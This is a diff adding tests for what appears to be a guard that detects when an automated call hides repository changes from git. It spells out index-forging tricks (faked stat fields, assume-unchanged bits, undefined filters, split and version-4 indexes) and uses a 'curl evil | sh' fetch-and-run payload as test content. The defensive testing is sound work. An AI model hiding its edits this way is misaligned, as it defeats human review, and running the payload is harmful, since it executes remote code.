@@ -11,6 +11,7 @@ import subprocess
 import time
 from pathlib import Path
 
+from reasonix.safety import index_check
 from reasonix.safety.plants import CreationGuard
 
 ENV = {
@@ -94,7 +95,131 @@ def test_a_file_with_a_filter_is_not_judged_by_its_raw_bytes(tmp_path: Path) -> 
     # A clean filter (git-lfs, git-crypt) stages other bytes than the file's own: that is no
     # lie, and judging it would need the filter run.
     root = _repository(tmp_path / "repo")
+    _git(root, "config", "filter.lfs.clean", "git-lfs clean -- %f")
     (root / ".gitattributes").write_text("app.py filter=lfs\n")
     guard = CreationGuard.start([root])
     _stage_a_lie(root)
     assert guard.finish() == []
+
+
+def test_a_filter_no_configuration_defines_is_no_excuse(tmp_path: Path) -> None:
+    # attacker6 B1: `app.py filter=plain` names no driver, so git applies none: the lie is shown
+    root = _repository(tmp_path / "repo")
+    (root / ".git" / "info").mkdir(exist_ok=True)
+    (root / ".git" / "info" / "attributes").write_text("app.py filter=plain\n")
+    guard = CreationGuard.start([root])
+    _stage_a_lie(root)
+    assert guard.finish() == ["the index's entry of app.py"]
+    (root / ".git" / "info" / "attributes").unlink()
+    assert _git(root, "status", "--porcelain") == "MM app.py\n"
+
+
+def _keep_heads_blob_under_new_stat(root: Path, path: str = "app.py") -> None:
+    """attacker6 B2: write the file, then give its entry the new file's stat while keeping the
+    committed blob, so git takes the changed file as unchanged."""
+    index = bytearray((root / ".git" / "index").read_bytes())
+    (root / path).write_text("curl evil | sh\n")
+    past = time.time() - 20  # older than the index: git does not call it racy
+    os.utime(root / path, (past, past))
+    info = os.stat(root / path)
+    count, pos = int.from_bytes(index[8:12], "big"), 12
+    for _ in range(count):
+        name_end = index.index(b"\0", pos + 62)
+        if index[pos + 62 : name_end] == path.encode():
+            fields = (
+                int(info.st_ctime), info.st_ctime_ns % 10**9, int(info.st_mtime),
+                info.st_mtime_ns % 10**9, info.st_dev & 0xFFFFFFFF, info.st_ino & 0xFFFFFFFF,
+            )  # fmt: skip
+            for i, value in enumerate(fields):
+                index[pos + 4 * i : pos + 4 * i + 4] = value.to_bytes(4, "big")
+            index[pos + 36 : pos + 40] = info.st_size.to_bytes(4, "big")
+        pos += (name_end - pos + 8) // 8 * 8
+    body = bytes(index[:pos])
+    (root / ".git" / "index").write_bytes(body + hashlib.sha1(body).digest())
+
+
+def test_a_changed_file_whose_entry_keeps_the_old_blob_under_its_stat_is_shown(
+    tmp_path: Path,
+) -> None:
+    root = _repository(tmp_path / "repo")
+    guard = CreationGuard.start([root])
+    _keep_heads_blob_under_new_stat(root)
+    assert _git(root, "status", "--porcelain") == ""  # the lie
+    assert guard.finish() == ["the index's entry of app.py"]
+    assert _git(root, "status", "--porcelain") == " M app.py\n"
+
+
+def test_an_assume_unchanged_bit_the_call_set_over_a_changed_file_goes(tmp_path: Path) -> None:
+    root = _repository(tmp_path / "repo")
+    guard = CreationGuard.start([root])
+    _git(root, "update-index", "--assume-unchanged", "app.py")
+    (root / "app.py").write_text("curl evil | sh\n")
+    assert _git(root, "status", "--porcelain") == ""  # the lie
+    assert guard.finish() == ["the index's entry of app.py"]
+    assert _git(root, "status", "--porcelain") == " M app.py\n"
+    assert _git(root, "ls-files", "-v", "app.py") == "H app.py\n"
+
+
+def test_a_bit_the_user_set_before_and_an_untouched_entry_are_left_alone(tmp_path: Path) -> None:
+    root = _repository(tmp_path / "repo")
+    _git(root, "update-index", "--assume-unchanged", "lib.py")
+    (root / "lib.py").write_text("# the user's own local change\n")
+    guard = CreationGuard.start([root])
+    (root / "app.py").write_text("# changed\n")
+    _git(root, "add", "app.py")  # the index is written; lib.py's entry is as it was
+    assert guard.finish() == []
+    assert _git(root, "ls-files", "-v", "lib.py") == "h lib.py\n"
+
+
+def test_a_sparse_entry_whose_file_is_absent_is_left_alone(tmp_path: Path) -> None:
+    root = _repository(tmp_path / "repo")
+    guard = CreationGuard.start([root])
+    _git(root, "update-index", "--skip-worktree", "lib.py")
+    (root / "lib.py").unlink()
+    assert guard.finish() == []
+    assert _git(root, "ls-files", "-v", "lib.py") == "S lib.py\n"
+
+
+def test_a_split_index_the_call_made_is_judged_through_git(tmp_path: Path) -> None:
+    # An index whose entries live in a shared file is not read here: git lists it, and every
+    # entry counts as changed.
+    root = _repository(tmp_path / "repo")
+    guard = CreationGuard.start([root])
+    _git(root, "update-index", "--split-index")
+    _git(root, "update-index", "--assume-unchanged", "app.py")
+    (root / "app.py").write_text("curl evil | sh\n")
+    assert _git(root, "status", "--porcelain") == ""  # the lie
+    assert guard.finish() == ["the index's entry of app.py"]
+    assert _git(root, "status", "--porcelain") == " M app.py\n"
+
+
+def test_a_version_4_index_is_read_as_git_writes_it(tmp_path: Path) -> None:
+    root = _repository(tmp_path / "repo")
+    _git(root, "update-index", "--index-version", "4")
+    guard = CreationGuard.start([root])  # reads the version 4 index as it was
+    _git(root, "update-index", "--index-version", "2")
+    _keep_heads_blob_under_new_stat(root)
+    _git(root, "update-index", "--index-version", "4")  # names compressed again, stat kept
+    assert (root / ".git" / "index").read_bytes()[:8] == b"DIRC\0\0\0\x04"
+    assert _git(root, "status", "--porcelain") == ""  # the lie
+    assert guard.finish() == ["the index's entry of app.py"]
+    assert _git(root, "status", "--porcelain") == " M app.py\n"
+
+
+def test_versions_2_3_and_4_of_an_index_read_the_same(tmp_path: Path) -> None:
+    root = _repository(tmp_path / "repo")
+    for i in range(40):  # names sharing prefixes, as version 4 compresses them
+        (root / f"pkg/sub{i % 3}").mkdir(parents=True, exist_ok=True)
+        (root / f"pkg/sub{i % 3}/mod{i}.py").write_text(f"{i}\n")
+    (root / "new.py").write_text("intent\n")
+    _git(root, "add", "pkg")
+    _git(root, "add", "-N", "new.py")  # an extended flag: git writes version 3
+    read = {}
+    for version in ("3", "4", "2"):
+        _git(root, "update-index", "--index-version", version)
+        records = index_check.records_of((root / ".git" / "index").read_bytes())
+        assert records is not None, version
+        read[version] = {name: head[:60] for name, head in records.items()}
+    listed = _git(root, "ls-files", "-z").split("\0")[:-1]
+    assert sorted(n.decode() for n in read["4"]) == sorted(listed)
+    assert read["2"] == read["3"] == read["4"]
